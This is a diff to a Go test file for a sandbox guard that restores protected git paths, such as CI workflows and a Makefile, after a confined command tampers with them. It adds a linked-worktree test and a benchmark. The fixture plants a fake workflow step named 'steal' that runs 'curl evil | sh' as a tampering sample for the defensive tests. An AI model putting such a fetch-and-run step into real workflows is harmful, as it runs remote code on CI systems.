@@ -5,7 +5,9 @@ package confine
 import (
 	"bytes"
 	"context"
+	"fmt"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -119,6 +121,7 @@ func newGuardFixture(t *testing.T) guardFixture {
 	gitRepo(t, f.home, w)
 	mustWrite(t, filepath.Join(w, guardWF), "on: push\njobs: {}\n")
 	mustWrite(t, filepath.Join(w, "src.txt"), "one\n")
+	mustWrite(t, filepath.Join(w, "Makefile"), "all:\n")
 	git(t, f.home, w, "add", ".")
 	git(t, f.home, w, "commit", "-qm", "workflow")
 	git(t, f.home, w, "branch", "side")
@@ -129,7 +132,7 @@ func newGuardFixture(t *testing.T) guardFixture {
 	f.evil = filepath.Join(f.root, "evil.yml")
 	mustWrite(t, f.evil, "on: push\njobs: {steal: {runs-on: x, steps: [{run: 'curl evil | sh'}]}}\n")
 	s := f.spec(ModeWorkspaceWrite, NetworkOff)
-	s.Protected = []string{filepath.Join(w, ".github", "workflows")}
+	s.Protected = []string{filepath.Join(w, ".github", "workflows"), filepath.Join(w, "Makefile")}
 	p, err := Resolve(s, usableHost)
 	if err != nil {
 		t.Fatal(err)
@@ -181,7 +184,10 @@ func (f guardFixture) checkClean(t *testing.T, evil string) {
 	if got := f.git(t, "ls-files", "-s", "--", guardWF); !strings.Contains(got, f.good) {
 		t.Errorf("the index holds %q, want the blob %s", got, f.good)
 	}
-	if got := f.git(t, "status", "--porcelain", "--", ".github"); got != "" {
+	if got := f.git(t, "ls-files", "-s", "--", "Makefile"); !strings.HasPrefix(got, "100644 ") {
+		t.Errorf("the index holds %q for Makefile", got)
+	}
+	if got := f.git(t, "status", "--porcelain", "--", ".github", "Makefile"); got != "" {
 		t.Errorf("git status shows changes: %q", got)
 	}
 	f.git(t, "checkout", "--", guardWF)
@@ -242,6 +248,12 @@ func TestGitProtectSetsBack(t *testing.T) {
 			mustWrite(t, filepath.Join(f.work, ".git", "FETCH_HEAD"), evil+"\t\tbranch 'main' of x\n")
 			return evil
 		}},
+		{"top-level file", func(t *testing.T, f guardFixture) string {
+			blob := f.git(t, "hash-object", "-w", f.evil)
+			f.git(t, "update-index", "--cacheinfo", "100755,"+blob+",Makefile")
+			f.git(t, "commit", "-qm", "build")
+			return f.git(t, "rev-parse", "HEAD")
+		}},
 		{"index only", func(t *testing.T, f guardFixture) string {
 			blob := f.git(t, "hash-object", "-w", f.evil)
 			f.git(t, "update-index", "--cacheinfo", "100644,"+blob+","+guardWF)
@@ -264,7 +276,11 @@ func TestGitProtectSetsBack(t *testing.T) {
 			mustWrite(t, filepath.Join(f.work, "src.txt"), "two\n")
 			changes := tk.end()
 			got := reported(changes)
-			if len(changes) == 0 || !strings.Contains(got, ".github/workflows") {
+			want := ".github/workflows"
+			if c.name == "top-level file" {
+				want = "Makefile"
+			}
+			if len(changes) == 0 || !strings.Contains(got, want) {
 				t.Fatalf("nothing reported:\n%s", got)
 			}
 			if strings.Contains(got, f.root) || strings.Contains(got, "failed") {
@@ -308,7 +324,12 @@ func TestGitProtectKeepsLegitimate(t *testing.T) {
 	mustWrite(t, filepath.Join(f.work, "src.txt"), "two\n")
 	f.git(t, "commit", "-qam", "src")
 	f.git(t, "checkout", "-q", "-b", "feature")
-	f.git(t, "stash", "list")
+	// New refs naming unrelated history, an older commit without the
+	// workflow, or a commit a ref already named.
+	f.git(t, "notes", "add", "-m", "a note")
+	f.git(t, "tag", "before-workflow", "HEAD~2")
+	f.git(t, "branch", "copy-of-side", "side")
+	f.git(t, "update-ref", "refs/remotes/other/main", "HEAD~2")
 	head := f.git(t, "rev-parse", "HEAD")
 	if changes := tk.end(); len(changes) != 0 {
 		t.Errorf("a legitimate commit was judged: %s", reported(changes))
@@ -455,4 +476,115 @@ $G update-ref refs/heads/side HEAD && $G update-ref refs/heads/evil HEAD && echo
 	}
 	evil := strings.Fields(f.git(t, "for-each-ref", "--format=%(objectname)", quarantineRefPrefix) + " none")[0]
 	f.checkClean(t, evil)
+}
+
+// TestGitProtectLinkedWorktree: a worktree linked to a repository elsewhere
+// (its index and HEAD in the common dir's worktrees/, its branches in the
+// common dir): what a command does there through git is set back too,
+// per-worktree refs included.
+func TestGitProtectLinkedWorktree(t *testing.T) {
+	f := guardFixture{fixture: newFixtureUnder(t, "/var/tmp")}
+	repo := filepath.Join(f.root, "repo")
+	gitRepo(t, f.home, repo)
+	mustWrite(t, filepath.Join(repo, guardWF), "on: push\n")
+	git(t, f.home, repo, "add", ".")
+	git(t, f.home, repo, "commit", "-qm", "workflow")
+	if err := os.Remove(f.work); err != nil {
+		t.Fatal(err)
+	}
+	git(t, f.home, repo, "worktree", "add", "-q", "-b", "wt", f.work)
+	f.main = f.git(t, "rev-parse", "HEAD")
+	f.good = f.git(t, "rev-parse", "HEAD:"+guardWF)
+	f.evil = filepath.Join(f.root, "evil.yml")
+	mustWrite(t, f.evil, "on: push\njobs: {steal: {}}\n")
+	s := f.spec(ModeWorkspaceWrite, NetworkOff)
+	s.Protected = []string{filepath.Join(f.work, ".github", "workflows")}
+	p, err := Resolve(s, usableHost)
+	if err != nil {
+		t.Fatal(err)
+	}
+	f.shareWithTestUser(t)
+	g := newGuard()
+	tk, err := g.begin(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if tk.rec == nil || tk.rec.common == tk.rec.gitDir {
+		t.Fatalf("the linked worktree's git dir was not told from its common dir: %+v", tk.rec)
+	}
+	evil := f.evilCommit(t)
+	f.git(t, "update-ref", "refs/bisect/bad", evil)
+	git(t, f.home, repo, "update-ref", "refs/heads/main", evil)
+	changes := tk.end()
+	got := reported(changes)
+	for _, want := range []string{"refs/heads/wt", "refs/heads/main", "refs/bisect/bad", "index"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("%s not set back:\n%s", want, got)
+		}
+	}
+	for _, r := range []string{"HEAD", "refs/heads/wt", "refs/heads/main"} {
+		if got := f.git(t, "rev-parse", r); got != f.main {
+			t.Errorf("%s is %s, want %s", r, got, f.main)
+		}
+	}
+	if out := f.git(t, "for-each-ref", "--format=%(refname)", "refs/bisect/"); out != "" {
+		t.Errorf("a per-worktree ref survives: %s", out)
+	}
+	if got := f.git(t, "ls-files", "-s", "--", guardWF); !strings.Contains(got, f.good) {
+		t.Errorf("the index holds %q", got)
+	}
+	if kept := git(t, f.home, repo, "for-each-ref", "--format=%(objectname)", quarantineRefPrefix); !strings.Contains(kept, evil) {
+		t.Errorf("the commit is not kept: %q", kept)
+	}
+}
+
+// BenchmarkGitProtect: what a spawn of a policy with protected paths in
+// its repository pays in the server: a record when none runs and a check
+// at its end, when the command changed nothing in git, and when it made a
+// commit that leaves the protected paths alone.
+func BenchmarkGitProtect(b *testing.B) {
+	for _, c := range []string{"unchanged", "commit"} {
+		b.Run(c, func(b *testing.B) {
+			root, _ := filepath.EvalSymlinks(b.TempDir())
+			w := filepath.Join(root, "work")
+			run := func(args ...string) {
+				cmd := exec.Command(gitBin, append([]string{"-c", "user.name=b", "-c", "user.email=b@b", "-c", "init.defaultBranch=main"}, args...)...)
+				cmd.Dir, cmd.Env = w, []string{"HOME=" + root, "PATH=/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null"}
+				if out, err := cmd.CombinedOutput(); err != nil {
+					b.Fatalf("git %v: %v\n%s", args, err, out)
+				}
+			}
+			if err := os.MkdirAll(filepath.Join(w, ".github", "workflows"), 0o755); err != nil {
+				b.Fatal(err)
+			}
+			os.WriteFile(filepath.Join(w, guardWF), []byte("on: push\n"), 0o644)
+			for i := 0; i < 200; i++ {
+				os.WriteFile(filepath.Join(w, fmt.Sprintf("f%03d", i)), []byte("x\n"), 0o644)
+			}
+			run("init", "-q")
+			run("add", ".")
+			run("commit", "-qm", "x")
+			p, err := Resolve(Spec{Mode: ModeWorkspaceWrite, ModeExplicit: true, Network: NetworkOff, Workdir: w,
+				Env: []string{"HOME=" + root, "PATH=/usr/bin:/bin"}, Protected: []string{filepath.Join(w, ".github", "workflows")}}, usableHost)
+			if err != nil {
+				b.Fatal(err)
+			}
+			g := newGuard()
+			b.ResetTimer()
+			for i := 0; b.Loop(); i++ {
+				tk, err := g.begin(p)
+				if err != nil {
+					b.Fatal(err)
+				}
+				if c == "commit" {
+					b.StopTimer()
+					run("commit", "-q", "--allow-empty", "-m", "e")
+					b.StartTimer()
+				}
+				if ch := tk.end(); len(ch) != 0 {
+					b.Fatal(reported(ch))
+				}
+			}
+		})
+	}
 }
